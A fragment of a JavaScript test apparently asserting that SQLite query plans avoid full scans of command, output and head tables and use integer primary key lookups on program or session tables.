    expect(plans.filter((d) => /^SCAN (c|o|commands|outputs)\b/.test(d))).toEqual([]);
    expect(plans.filter((d) => /^SCAN (p|s|programs|sessions)\b/.test(d))).toEqual(
      query.includes('user:') ? ['SCAN p'] : [],
    );
    expect(plans.some((d) => /^SEARCH (p|s) USING INTEGER PRIMARY KEY/.test(d))).toBe(true);
    expect(plans.filter((d) => /^SCAN h\b|output_heads/.test(d))).toEqual([]);
  });
});
